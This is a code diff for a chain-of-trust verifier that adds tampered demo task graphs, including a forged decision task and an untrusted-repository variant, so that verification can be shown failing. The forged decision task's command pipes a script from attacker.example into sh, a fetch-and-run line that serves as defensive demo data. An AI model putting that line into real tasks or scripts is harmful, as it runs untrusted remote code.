@@ -13,6 +13,15 @@ import { certifyKeyFile } from '../trust/certify.js';
 import { writeFileAtomic } from '../util/atomic.js';
 import { checkOptions } from '../util/options.js';
 import { createdTask, type GraphTaskInput, graphEntry, queueDefaults } from './taskgraph.js';
+import {
+  DEMO_DECISION_IMAGE,
+  DEMO_RELEASE_REPOSITORY,
+  DEMO_REVISION,
+  DEMO_SANDBOX_REPOSITORY,
+  DEMO_TREE_POLICY,
+  type DemoRepository,
+  writeDemoTree,
+} from './tree.js';
 
 /**
  * The demo chain builder: a realistic, fully signed Taskcluster task graph in a directory store, built with cot's
@@ -24,7 +33,8 @@ import { createdTask, type GraphTaskInput, graphEntry, queueDefaults } from './t
  *   keys/<worker>.key, keys/<worker>.pub   the signing keys (worker: docker-worker, generic-worker, scriptworker, root)
  *   key-repo/                              the OpenPGP key repository the policy names (cot-gpg-keys layout)
  *   ed25519-keys.json                      the generic-worker's ed25519 public key, by worker implementation
- *   policy.yml                             DEMO_POLICY
+ *   policy.yml                             DEMO_POLICY (with a tree: and DEMO_TREE_POLICY)
+ *   tree/                                  with a tree: the tree material (./tree.ts, writeDemoTree)
  *   queue/                                 the directory store (DirectoryQueue) with tasks, artifacts, documents
  */
 
@@ -159,32 +169,47 @@ interface DemoIds {
 }
 
 /**
- * The decision task, as the repository's .taskcluster.yml makes it (its own task group), created one hour before
- * `now`; the queue's defaults added (queueDefaults).
+ * How `cot demo --tamper-tree` breaks the trace to the tree, every document still signed: `decision`, a decision
+ * task its tree did not render (its command changed: TREE_TASK_MISMATCH); `untrusted`, the whole graph (release
+ * scopes included) built from a repository the policy does not trust (TREE_SCOPE_NOT_ALLOWED).
  */
-function decisionTask(ids: DemoIds, created: Date, schedulerId: string): JsonObject {
+export type DemoTreeTamper = 'decision' | 'untrusted';
+
+/** The `--tamper-tree` kinds, in the order help shows them. */
+export const DEMO_TREE_TAMPERS: readonly DemoTreeTamper[] = ['decision', 'untrusted'];
+
+/**
+ * The decision task, as the repository's .taskcluster.yml makes it (its own task group; tree.ts demoTemplate
+ * renders exactly this for tasks_for hg-push), created one hour before `now`; the queue's defaults added
+ * (queueDefaults). `forged`: a command the template does not render (someone with the scopes to create a decision
+ * task made this one by hand).
+ */
+function decisionTask(ids: DemoIds, created: Date, repo: DemoRepository, forged: boolean): JsonObject {
+  const command = forged
+    ? ['run-task', '--', 'sh', '-c', 'curl -sf https://attacker.example/graph.sh | sh']
+    : ['run-task', '--', 'taskgraph', 'decision'];
   return queueDefaults({
     provisionerId: 'releng-3',
     workerType: 'decision',
-    schedulerId,
+    schedulerId: `demo-level-${repo.level}`,
     taskGroupId: ids.decision,
     created: created.toISOString(),
     deadline: new Date(created.getTime() + 86400_000).toISOString(),
     expires: new Date(created.getTime() + 365 * 86400_000).toISOString(),
     priority: 'very-low',
-    scopes: ['assume:repo:hg.example.com/releases:branch:default'],
+    scopes: [`assume:repo:${repo.url.replace(/^https:\/\//, '')}:branch:default`],
     payload: {
-      image: 'mozillareleases/taskgraph:decision-v11@sha256:'.concat('4f'.repeat(32)),
-      command: ['run-task', '--', 'taskgraph', 'decision'],
+      image: DEMO_DECISION_IMAGE,
+      command,
       maxRunTime: 1800,
       features: { chainOfTrust: true, taskclusterProxy: true },
-      env: { DEMO_HEAD_REPOSITORY: 'https://hg.example.com/releases', DEMO_HEAD_REV: 'a'.repeat(40) },
+      env: { DEMO_HEAD_REPOSITORY: repo.url, DEMO_HEAD_REV: DEMO_REVISION },
     },
     metadata: {
       name: 'Decision Task',
       description: 'the cot demo decision task',
       owner: 'release@example.com',
-      source: 'https://hg.example.com/releases/raw-file/tip/.taskcluster.yml',
+      source: `${repo.url}/raw-file/tip/.taskcluster.yml`,
     },
     tags: { kind: 'decision-task' },
     extra: { tasks_for: 'hg-push' },
@@ -294,21 +319,33 @@ function scriptworkerInputs(ids: DemoIds): Record<string, GraphTaskInput> {
   };
 }
 
+/** What the demo graph is built from: its repository, and whether its decision task is forged (DemoTreeTamper). */
+interface GraphSource {
+  repo: DemoRepository;
+  forgedDecision: boolean;
+}
+
 /**
  * The graph the decision task writes and the tasks the queue then serves, exactly as taskgraph does it:
  * task-graph.json is written before the tasks exist (graphEntry), then each task is created two minutes after the
- * decision task (createdTask). Returns the graph (task-graph.json content) and every task definition by id.
+ * decision task (createdTask). Every task's source lies in `from.repo`; the schedulerId is that repository's level.
+ * Returns the graph (task-graph.json content) and every task definition by id.
  */
-function demoGraph(ids: DemoIds, now: Date): { graph: JsonObject; tasks: Record<string, JsonObject> } {
+function demoGraph(
+  ids: DemoIds,
+  now: Date,
+  from: GraphSource,
+): { graph: JsonObject; tasks: Record<string, JsonObject> } {
   const decisionCreated = new Date(now.getTime() - 3600_000);
   const tasksCreated = new Date(decisionCreated.getTime() + 120_000);
-  const schedulerId = 'demo-level-3';
+  const schedulerId = `demo-level-${from.repo.level}`;
   const inputs = { ...buildInputs(ids), ...scriptworkerInputs(ids) };
   const graph: JsonObject = {};
-  for (const [id, t] of Object.entries(inputs)) graph[id] = graphEntry(id, ids.decision, t);
+  for (const [id, t] of Object.entries(inputs))
+    graph[id] = graphEntry(id, ids.decision, { ...t, source: `${from.repo.url}/file/tip/taskcluster/kinds` });
   const inGraph = new Set(Object.keys(graph));
   const tasks: Record<string, JsonObject> = {
-    [ids.decision]: decisionTask(ids, decisionCreated, schedulerId),
+    [ids.decision]: decisionTask(ids, decisionCreated, from.repo, from.forgedDecision),
   };
   for (const [id, entry] of Object.entries(graph))
     tasks[id] = createdTask(entry as JsonObject, {
@@ -405,6 +442,11 @@ async function storeAndSign(
   });
 }
 
+/** The repository a demo graph comes from: the sandbox for `untrusted`, else the release repository. */
+function demoRepositoryOf(tamperTree: DemoTreeTamper | undefined): DemoRepository {
+  return tamperTree === 'untrusted' ? DEMO_SANDBOX_REPOSITORY : DEMO_RELEASE_REPOSITORY;
+}
+
 /** Options of buildDemoChain. */
 export interface BuildDemoChainOptions {
   /** the directory store the tasks, artifacts and documents are written to (tasks at the new ids are created) */
@@ -415,6 +457,8 @@ export interface BuildDemoChainOptions {
   now: Date;
   /** after signing, replace build-linux64's `public/build/target.tar.gz`: the chain must then fail to verify */
   tamper?: boolean;
+  /** break the trace to the tree (DemoTreeTamper), every document signed as usual */
+  tamperTree?: DemoTreeTamper;
 }
 
 /** The chain buildDemoChain made. */
@@ -441,6 +485,7 @@ export async function buildDemoChain(o: BuildDemoChainOptions): Promise<DemoChai
     keys: { kind: 'object' },
     now: { kind: 'date' },
     tamper: { kind: 'boolean', optional: true },
+    tamperTree: { kind: 'string', optional: true, oneOf: DEMO_TREE_TAMPERS },
   });
   const ids: DemoIds = {
     decision: slugid(),
@@ -450,7 +495,10 @@ export async function buildDemoChain(o: BuildDemoChainOptions): Promise<DemoChai
     signing: slugid(),
     beetmover: slugid(),
   };
-  const { graph, tasks } = demoGraph(ids, o.now);
+  const { graph, tasks } = demoGraph(ids, o.now, {
+    repo: demoRepositoryOf(o.tamperTree),
+    forgedDecision: o.tamperTree === 'decision',
+  });
   const artifacts = demoArtifacts(ids, graph);
   const implOf: Record<string, DemoWorker> = {
     [ids.decision]: 'docker-worker',
@@ -493,6 +541,14 @@ export interface BuildDemoLabOptions {
   now: Date;
   /** see BuildDemoChainOptions.tamper */
   tamper?: boolean;
+  /**
+   * give the demo its source tree: the tree material under `dir/tree` (writeDemoTree) and DEMO_TREE_POLICY in
+   * `policy.yml`, so that verification rebuilds the decision task from its `.taskcluster.yml` and traces the chain
+   * to its repository (implied by `tamperTree`)
+   */
+  tree?: boolean;
+  /** see BuildDemoChainOptions.tamperTree */
+  tamperTree?: DemoTreeTamper;
 }
 
 /** A folder with the demo's keys, trust configuration and a signed chain in its directory store. */
@@ -506,18 +562,31 @@ export interface DemoLab extends DemoChain {
 }
 
 /**
- * Keys, trust configuration and a signed chain in one folder (writeDemoTrust, then buildDemoChain into `dir/queue`):
- * what `cot demo` builds, without its folder marker, `demo.json`, verification or report. Throws OPTIONS_INVALID
- * and the codes of writeDemoTrust and buildDemoChain.
+ * Keys, trust configuration and a signed chain in one folder (writeDemoTrust, with `tree` writeDemoTree, then
+ * buildDemoChain into `dir/queue`): what `cot demo` builds, without its folder marker, `demo.json`, verification or
+ * report. Throws OPTIONS_INVALID and the codes of writeDemoTrust, writeDemoTree and buildDemoChain.
  */
 export async function buildDemoLab(o: BuildDemoLabOptions): Promise<DemoLab> {
   checkOptions('buildDemoLab', o, {
     dir: { kind: 'string' },
     now: { kind: 'date' },
     tamper: { kind: 'boolean', optional: true },
+    tree: { kind: 'boolean', optional: true },
+    tamperTree: { kind: 'string', optional: true, oneOf: DEMO_TREE_TAMPERS },
   });
   const queue = new DirectoryQueue(join(o.dir, 'queue'));
   const trust = await writeDemoTrust(o.dir, o.now);
-  const chain = await buildDemoChain({ queue, keys: trust.keys, now: o.now, tamper: Boolean(o.tamper) });
+  if (o.tree || o.tamperTree !== undefined) {
+    // pushed one minute before the decision task was created (one hour before now)
+    await writeDemoTree(o.dir, demoRepositoryOf(o.tamperTree), new Date(o.now.getTime() - 3660_000));
+    await writeFileAtomic(trust.policy, `${DEMO_POLICY}${DEMO_TREE_POLICY}`);
+  }
+  const chain = await buildDemoChain({
+    queue,
+    keys: trust.keys,
+    now: o.now,
+    tamper: Boolean(o.tamper),
+    ...(o.tamperTree === undefined ? {} : { tamperTree: o.tamperTree }),
+  });
   return { ...chain, dir: o.dir, queue, policy: trust.policy };
 }
